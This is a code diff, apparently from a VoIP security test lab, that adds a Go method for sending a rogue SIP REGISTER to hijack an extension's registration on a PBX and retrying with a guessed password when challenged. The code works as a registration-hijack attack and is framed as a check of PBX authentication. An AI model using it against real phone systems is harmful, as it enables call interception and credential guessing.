@@ -122,6 +122,32 @@ func (r *Rogue) ForgeRecordingInvite(ctx context.Context, ext string, target net
 	return code, nil
 }
 
+// StealRegistration is the attack of issue 11: a REGISTER for ext with the
+// rogue's own Contact, sent to the PBX at pbx; answered with a challenge,
+// it tries guess as the password (none: it gives up at the challenge). It
+// returns the final status code the PBX gave. A PBX that authenticates
+// never answers 200.
+func (r *Rogue) StealRegistration(ctx context.Context, ext string, pbx netip.AddrPort, guess string) (int, error) {
+	aor := sip.Uri{Scheme: "sip", User: ext, Host: pbx.Addr().String()}
+	req := sip.NewRequest(sip.REGISTER, sip.Uri{Scheme: "sip", Host: pbx.Addr().String(), Port: int(pbx.Port())})
+	from := &sip.FromHeader{Address: aor, Params: sip.NewParams()}
+	from.Params.Add("tag", sip.GenerateTagN(16))
+	req.AppendHeader(from)
+	req.AppendHeader(&sip.ToHeader{Address: aor})
+	req.AppendHeader(r.sip.Contact(ext))
+	req.AppendHeader(sip.NewHeader("Expires", "120"))
+	req.SetDestination(pbx.String())
+	res, err := r.sip.Client.Do(ctx, req)
+	if err == nil && res.StatusCode == sip.StatusUnauthorized && guess != "" {
+		res, err = r.sip.Client.DoDigestAuth(ctx, req, res, sipgo.DigestAuth{Username: ext, Password: guess})
+	}
+	if err != nil {
+		return 0, fmt.Errorf("lab: rogue: REGISTER %s: %w", ext, err)
+	}
+	r.node.Note("REGISTER of %s from the rogue host answered %d %s", ext, res.StatusCode, res.Reason)
+	return res.StatusCode, nil
+}
+
 // Close stops the rogue's SIP stack and RTP sockets.
 func (r *Rogue) Close() {
 	r.sip.Close()
